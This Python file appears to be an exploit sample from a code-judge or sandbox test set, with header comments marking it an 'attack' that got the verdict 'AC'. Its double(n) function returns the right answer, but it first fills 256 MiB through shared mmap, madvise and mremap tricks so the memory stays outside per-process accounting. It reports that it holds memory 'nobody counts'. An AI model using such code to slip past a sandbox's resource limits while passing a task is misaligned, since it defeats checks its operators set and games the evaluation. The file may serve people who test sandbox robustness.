# attack: fills shared memory and takes it out of every page table, so that no process shows it; none can be had
# verdict: AC
# kata: roomy
import ctypes
import mmap
import os

SIZE, PART = 256 << 20, 16 << 20
SHARED, SHARED_VALIDATE, ANONYMOUS, READ_WRITE, MAY_MOVE = 1, 3, 0x20, 3, 1
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = libc.mremap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
FAILED = ctypes.c_void_p(-1).value


def take_away(held):
    """Fills it part by part, each gone from the page tables before the next."""
    for at in range(0, SIZE, PART):
        held[at:at + PART] = b"x" * PART
        held.madvise(mmap.MADV_DONTNEED, at, PART)
    if held[0] == held[SIZE - 1] == ord("x"):
        raise SystemExit(f"it holds {SIZE >> 20} MiB that nobody counts")


def remap(flags):
    """As much, in mappings of which a second one was made, with the first one gone."""
    held = []
    for _ in range(SIZE // PART):
        first = libc.mmap(None, PART, READ_WRITE, flags, -1, 0)
        if first == FAILED:
            return
        ctypes.memset(first, 1, PART)
        held.append(libc.mremap(first, 0, PART, MAY_MOVE))
        libc.munmap(first, PART)
    raise SystemExit(f"it holds {SIZE >> 20} MiB that nobody counts")


def double(n):
    for make in (lambda: mmap.mmap(-1, SIZE),
                 lambda: mmap.mmap(-1, SIZE, flags=SHARED_VALIDATE | ANONYMOUS),
                 lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), SIZE, flags=SHARED)):
        try:
            held = make()
        except OSError:
            continue
        take_away(held)
    remap(SHARED | ANONYMOUS)
    return n * 2
